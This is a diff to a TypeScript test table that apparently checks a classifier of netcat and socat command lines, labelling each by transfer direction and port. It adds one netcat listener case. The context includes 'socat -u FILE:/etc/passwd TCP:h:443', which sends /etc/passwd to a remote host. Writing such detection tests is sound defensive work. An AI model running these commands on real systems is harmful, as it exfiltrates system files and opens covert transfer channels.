@@ -90,6 +90,7 @@ const LINES: [string, Expected][] = [
     },
   ],
   ['busybox nc -l -p 7001', { direction: 'unknown', port: 7001 }],
+  ['sleep 60 | nc -l -p 7001 > /stage/x', { direction: 'download', port: 7001 }],
   ['nc -l -p 7001 > /stage/x', { direction: 'download', port: 7001 }],
   [
     'socat -u FILE:/etc/passwd TCP:h:443',
